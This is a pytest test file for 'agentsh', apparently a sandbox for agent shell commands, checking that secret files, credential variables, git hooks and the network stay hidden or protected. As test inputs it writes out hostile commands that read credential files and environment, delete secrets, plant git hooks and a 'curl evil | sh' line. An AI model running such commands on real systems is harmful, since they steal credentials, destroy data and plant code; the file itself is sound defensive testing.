"""What a sandboxed command can see and change: secrets, files, environment."""

from __future__ import annotations

import os
import socket
from pathlib import Path

import pytest

from tests.conftest import SECRET, Workspace, needs_git

NOTICE_START = "hidden by agentsh"


def _snapshot(*paths: Path) -> dict[Path, tuple[bytes, int, int]]:
    return {p: (p.read_bytes(), p.stat().st_ino, p.stat().st_mtime_ns) for p in paths}


@pytest.mark.parametrize(
    "path",
    [".env", "sub/dir/.env.production", "deploy.pem", "~/.aws/credentials", "~/.bash_history"],
)
def test_secret_files_read_as_a_notice(ws: Workspace, path: str) -> None:
    result = ws.run("-c", f"cat {path}")
    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith(NOTICE_START)
    assert SECRET not in result.stdout + result.stderr


def test_hidden_directories_are_empty_and_read_only(ws: Workspace) -> None:
    result = ws.run(
        "-c",
        "ls -A ~/.railway ~/.ssh; cat ~/.railway/config.json; touch ~/.ssh/planted",
    )
    assert "config.json" not in result.stdout
    assert "id_ed25519" not in result.stdout
    assert SECRET not in result.stdout + result.stderr
    assert "No such file" in result.stderr
    assert not (ws.home / ".ssh" / "planted").exists()


def test_look_alikes_and_ordinary_files_stay_visible(ws: Workspace) -> None:
    result = ws.run("-c", "cat .env.example README.md ~/notes.txt")
    assert result.returncode == 0, result.stderr
    assert "changeme" in result.stdout
    assert "demo project" in result.stdout
    assert "plain notes" in result.stdout


def test_grep_over_the_whole_tree_finds_no_secret(ws: Workspace) -> None:
    result = ws.run("-c", "grep -r . ~ . 2>/dev/null; env; cat /proc/self/environ | tr '\\0' '\\n'")
    assert SECRET not in result.stdout
    assert "ghp_" not in result.stdout


@pytest.mark.parametrize(
    "attack",
    [
        "echo stolen > .env",
        "mv .env gone.env",
        "rm -f .env",
        "ln -f .env hard.env && cat hard.env",
        "cp /dev/null sub/dir/.env.production",
        "rm -rf ~/.aws",
        "echo x | tee -a ~/.aws/credentials",
        "mv ~/.railway ~/.railway2",
        "truncate -s0 deploy.pem",
    ],
)
def test_secrets_cannot_be_written_moved_or_deleted(ws: Workspace, attack: str) -> None:
    ws.user_profile("", policy_off=True)
    targets = [
        ws.project / ".env",
        ws.project / "sub" / "dir" / ".env.production",
        ws.project / "deploy.pem",
        ws.home / ".aws" / "credentials",
        ws.home / ".railway" / "config.json",
    ]
    before = _snapshot(*targets)
    result = ws.run("-c", attack)
    assert SECRET not in result.stdout
    assert _snapshot(*targets) == before
    assert not (ws.project / "gone.env").exists()
    assert not (ws.home / ".railway2").exists()


def test_a_new_secret_file_is_hidden_on_the_very_next_command(ws: Workspace) -> None:
    assert ws.run("-c", "true").returncode == 0
    (ws.project / "sub" / "dir" / ".env.local").write_text(f"TOKEN={SECRET}\n")
    fresh = ws.project / "fresh"
    fresh.mkdir()
    (fresh / "credentials.json").write_text(SECRET)
    result = ws.run("-c", "cat sub/dir/.env.local fresh/credentials.json")
    assert SECRET not in result.stdout
    assert result.stdout.count(NOTICE_START) == 2


def test_secret_variables_are_not_in_the_environment(ws: Workspace) -> None:
    result = ws.run(
        "-c", 'echo "[$RAILWAY_TOKEN][$AWS_SECRET_ACCESS_KEY][$GITHUB_TOKEN][$DATABASE_URL]"; env'
    )
    assert result.returncode == 0, result.stderr
    assert "[][][][]" in result.stdout
    assert SECRET not in result.stdout
    assert "ghp_" not in result.stdout
    assert "AGENTSH=1" in result.stdout
    assert "SHELL=/" in result.stdout


def test_a_glob_never_lets_a_secret_in_but_an_exact_name_does(ws: Workspace) -> None:
    ws.user_profile("env:\n  pass: [MYAPP_*, MYAPP_DEPLOY_TOKEN]\n")
    result = ws.run(
        "-c",
        "env | grep MYAPP_ | sort",
        env={
            "MYAPP_MODE": "dev",
            "MYAPP_API_KEY": "plain",
            "MYAPP_CALLBACK": f"https://user:{SECRET}@hooks.example.com/x",
            "MYAPP_DEPLOY_TOKEN": "explicitly-passed",
        },
    )
    assert result.returncode == 0, result.stderr
    assert result.stdout.splitlines() == [
        "MYAPP_DEPLOY_TOKEN=explicitly-passed",
        "MYAPP_MODE=dev",
    ]


def test_writes_land_only_in_the_project_and_private_tmp(ws: Workspace) -> None:
    ws.user_profile("", policy_off=True)
    result = ws.run(
        "-c",
        f"""
        echo project > written.txt && echo ok-project
        mkdir -p deep/er && echo x > deep/er/f && echo ok-deep
        echo t > /tmp/t && echo ok-tmp
        echo t | tee "$TMPDIR/u" >/dev/null && echo ok-tmpdir
        echo etc | tee /etc/agentsh-test || echo no-etc
        echo home | tee ~/planted || echo no-home
        echo sib | tee {ws.sibling}/planted || echo no-sibling
        """,
    )
    for marker in (
        "ok-project",
        "ok-deep",
        "ok-tmp",
        "ok-tmpdir",
        "no-etc",
        "no-home",
        "no-sibling",
    ):
        assert marker in result.stdout, result.stdout + result.stderr
    assert (ws.project / "written.txt").read_text() == "project\n"
    assert (ws.project / "deep" / "er" / "f").exists()
    assert not Path("/etc/agentsh-test").exists()
    assert not (ws.home / "planted").exists()
    assert not (ws.sibling / "planted").exists()


def test_tmp_is_private_to_one_invocation(ws: Workspace) -> None:
    marker = Path("/tmp") / f"agentsh-host-marker-{os.getpid()}"
    marker.write_text("host")
    try:
        first = ws.run("-c", f"ls /tmp; echo one > /tmp/shared; cat {marker}")
        second = ws.run("-c", "cat /tmp/shared")
    finally:
        marker.unlink()
    assert "host" not in first.stdout
    assert "No such file" in second.stderr


def test_agentsh_state_and_config_are_invisible(ws: Workspace) -> None:
    ws.user_profile("network:\n  mode: none\n")
    ws.run("-c", "true")
    state = ws.home / ".local" / "state" / "agentsh"
    assert state.is_dir()
    result = ws.run("-c", "ls -A ~/.local/state/agentsh ~/.config/agentsh")
    assert (
        result.stdout.strip().splitlines()
        == [
            f"{ws.home}/.config/agentsh:",
            "",
            f"{ws.home}/.local/state/agentsh:",
        ]
        or result.stdout.strip() == ""
    )
    assert "profile.yaml" not in result.stdout
    assert "cache" not in result.stdout


def test_protected_project_files_are_read_only(ws: Workspace) -> None:
    ws.user_profile("", policy_off=True)
    hook = ws.project / ".git" / "hooks" / "pre-commit"
    result = ws.run(
        "-c",
        "echo evil | tee .git/hooks/pre-commit; git config core.hooksPath /tmp/evil; echo done",
    )
    assert "done" in result.stdout
    assert not hook.exists()
    assert "hooksPath" not in (ws.project / ".git" / "config").read_text()


def test_no_network_by_default(ws: Workspace) -> None:
    with socket.create_server(("127.0.0.1", 0)) as server:
        port = server.getsockname()[1]
        result = ws.run(
            "-c",
            f"tail -n +3 /proc/net/dev | cut -d: -f1; python3 -c 'import socket; "
            f'socket.create_connection(("127.0.0.1", {port}), timeout=5)\' '
            "2>/dev/null && echo connected || echo refused",
        )
    assert result.stdout.split() == ["lo", "refused"], result.stdout + result.stderr


def test_strict_profile_hides_the_rest_of_home(ws: Workspace) -> None:
    (ws.home / ".gitconfig").write_text("[user]\n\tname = Dev\n")
    (ws.home / "other-project").mkdir()
    (ws.home / "other-project" / "config.ini").write_text(f"key={SECRET}\n")
    ws.user_profile("extends: strict\n", policy_off=True)
    result = ws.run("-c", "ls -A ~; cat ~/.gitconfig; echo x | tee ~/f || echo ro-home")
    assert "other-project" not in result.stdout
    assert "name = Dev" in result.stdout
    assert "ro-home" in result.stdout
    assert SECRET not in result.stdout


@needs_git
def test_a_committed_secret_is_reported_once_and_recorded(ws: Workspace) -> None:
    """git can show a committed .env whatever the mounts do: agentsh warns about it."""
    import subprocess

    git = ["git", "-C", str(ws.project), "-c", "user.name=t", "-c", "user.email=t@t"]
    subprocess.run([*git, "add", ".env"], check=True)
    subprocess.run([*git, "commit", "-qm", "oops"], check=True)
    first = ws.run("-c", "true")
    assert "agentsh: warning: git tracks .env" in first.stderr
    assert "git show HEAD:.env" in first.stderr
    second = ws.run("-c", "true")
    assert "warning" not in second.stderr, "said once until the index changes"
    entry = ws.ctl("log", "--json", "-n", "1").stdout
    assert '"tracked_secrets": [".env"]' in entry


def test_the_directory_of_a_protected_file_cannot_be_swapped(ws: Workspace) -> None:
    """Renaming .git away and making a new one would plant hooks the host's git runs."""
    ws.user_profile("", policy_off=True)
    (ws.project / ".vscode").mkdir()
    (ws.project / ".vscode" / "settings.json").write_text("{}")
    script = (
        "import os\n"
        "for name in ('.git', '.vscode'):\n"
        "    try:\n"
        "        os.rename(name, name + '-old'); print('RENAMED', name)\n"
        "    except OSError as e: print('refused', name, e.strerror)\n"
        "open('.git/scratch', 'w').write('git still writes here')\n"
    )
    (ws.project / "swap.py").write_text(script)
    result = ws.run("-c", "python3 swap.py")
    assert result.returncode == 0, result.stderr
    assert "RENAMED" not in result.stdout
    assert (ws.project / ".git" / "scratch").exists()
    assert not (ws.project / ".git-old").exists()


def test_a_protected_file_the_command_creates_is_moved_aside(ws: Workspace) -> None:
    ws.user_profile("", policy_off=True)
    script = (
        "import os\n"
        "open('.envrc', 'w').write('curl evil | sh\\n')\n"
        "os.makedirs('.vscode', exist_ok=True)\n"
        "open('.vscode/tasks.json', 'w').write('{}')\n"
    )
    (ws.project / "plant.py").write_text(script)
    result = ws.run("-c", "python3 plant.py")
    assert result.returncode == 0
    assert not (ws.project / ".envrc").exists()
    assert (ws.project / ".envrc.agentsh-blocked").read_text() == "curl evil | sh\n"
    assert not (ws.project / ".vscode" / "tasks.json").exists()
    assert "moved aside" in result.stderr and ".envrc -> .envrc.agentsh-blocked" in result.stderr
    entry = ws.ctl("log", "--json", "-n", "1").stdout
    assert ".envrc.agentsh-blocked" in entry


@needs_git
def test_credentials_in_the_git_config_are_redacted_inside(ws: Workspace) -> None:
    import subprocess

    subprocess.run(
        [
            "git",
            "-C",
            str(ws.project),
            "remote",
            "add",
            "origin",
            f"https://x-access-token:{SECRET}@github.com/o/r.git",
        ],
        check=True,
    )
    result = ws.run("-c", "cat .git/config; git remote get-url origin")
    assert SECRET not in result.stdout + result.stderr
    assert "https://agentsh-redacted@github.com/o/r.git" in result.stdout
    assert SECRET in (ws.project / ".git" / "config").read_text(), "the real file is untouched"


def test_secret_files_above_the_project_and_in_home_are_hidden(ws: Workspace) -> None:
    """A monorepo's parent and the home directory often hold an .env of their own."""
    ws.user_profile("", policy_off=True)
    (ws.project.parent / ".env").write_text(f"TOKEN={SECRET}\n")
    (ws.home / ".env.local").write_text(f"TOKEN={SECRET}\n")
    (ws.project.parent / "notes.txt").write_text("not a secret\n")
    result = ws.run("-c", "cat ../.env ~/.env.local ../notes.txt")
    assert SECRET not in result.stdout + result.stderr
    assert result.stdout.count("hidden by agentsh") == 2
    assert "not a secret" in result.stdout


def test_a_hard_link_to_a_hidden_file_is_hidden_too(ws: Workspace) -> None:
    """Made outside the sandbox under an innocent name, even deep in node_modules."""
    ws.user_profile("", policy_off=True)
    deep = ws.project / "node_modules" / "pkg"
    deep.mkdir(parents=True)
    os.link(ws.project / ".env", deep / "readme.txt")
    os.link(ws.home / ".aws" / "credentials", ws.project / "notes.md")
    result = ws.run("-c", "cat node_modules/pkg/readme.txt notes.md")
    assert SECRET not in result.stdout + result.stderr
    assert result.stdout.count("hidden by agentsh") == 2


def test_secrets_behind_absolute_symlinks_are_hidden_and_commands_still_run(
    ws: Workspace,
) -> None:
    """bwrap cannot mount onto a symlink with an absolute target: the real file is masked.
    (The store is a dot folder of home, which stays visible; one beside the project would
    be hidden whole as another project.)"""
    ws.user_profile("", policy_off=True)
    store = ws.home / ".store"
    store.mkdir()
    for link in (ws.project / ".env", ws.home / ".aws" / "credentials"):
        real = store / link.name
        link.rename(real)
        link.symlink_to(real.resolve())
    result = ws.run("-c", f"cat .env ~/.aws/credentials {store}/.env; echo ran")
    assert result.returncode == 0, result.stderr
    assert SECRET not in result.stdout + result.stderr
    assert result.stdout.count("hidden by agentsh") == 3 and "ran" in result.stdout


def test_other_projects_are_empty_unless_the_profile_shows_them(ws: Workspace) -> None:
    """Folders beside the project and home's own folders are other projects: empty inside.
    Home's toolchain folders, and folders the user profile names, stay as they are."""
    (ws.sibling / "lib.py").write_text("shared = 1\n")
    (ws.home / "go" / "bin").mkdir(parents=True)
    (ws.home / "go" / "bin" / "tool").write_text("toolchain\n")
    (ws.home / "Documents").mkdir()
    (ws.home / "Documents" / "plan.txt").write_text("private plan\n")
    listing = f"ls -A {ws.sibling}; ls -A ~/Documents; cat ~/go/bin/tool"
    hidden = ws.run("-c", listing)
    assert hidden.returncode == 0, hidden.stderr
    assert hidden.stdout == "toolchain\n"
    ws.user_profile(f"sandbox:\n  writable: [{ws.sibling}]\n  home_visible: [~/Documents]\n")
    shown = ws.run("-c", f"{listing}; cat {ws.sibling}/lib.py")
    assert shown.stdout.split() == ["lib.py", "plan.txt", "toolchain", "shared", "=", "1"]
    ws.user_profile("sandbox:\n  other_projects: visible\n")
    assert ws.run("-c", "cat ~/Documents/plan.txt").stdout == "private plan\n"
